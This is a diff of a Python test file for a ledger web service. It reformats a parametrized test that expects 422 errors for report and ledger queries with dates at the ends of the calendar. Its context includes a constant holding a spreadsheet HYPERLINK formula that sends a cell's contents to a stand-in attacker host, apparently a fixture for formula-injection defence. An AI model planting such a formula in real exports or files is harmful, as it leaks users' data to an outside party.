@@ -11,15 +11,18 @@ from ledger_calls import SUPERVISION, accept
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'
 
 
-@pytest.mark.parametrize("query", [
-    "/ledger?from=0001-01-01&to=0001-01-31",
-    "/ledger?from=9999-12-01&to=9999-12-31",
-    "/ledger?from=2026-11-01&to=9999-12-31&format=csv",
-    "/reports/ratings?month=0001-01",
-    "/reports/ratings?month=9999-12",
-    "/reports/staff-scores?month=0001-01",
-    "/reports/staff-scores?month=9999-12",
-])
+@pytest.mark.parametrize(
+    "query",
+    [
+        "/ledger?from=0001-01-01&to=0001-01-31",
+        "/ledger?from=9999-12-01&to=9999-12-31",
+        "/ledger?from=2026-11-01&to=9999-12-31&format=csv",
+        "/reports/ratings?month=0001-01",
+        "/reports/ratings?month=9999-12",
+        "/reports/staff-scores?month=0001-01",
+        "/reports/staff-scores?month=9999-12",
+    ],
+)
 def test_r_clock_6_a_period_at_the_ends_of_the_calendar_is_a_422_naming_the_range(intake, web_session, query):
     refused = web_session.get(query, headers=SUPERVISION)
     assert refused.status_code == 422, refused.text
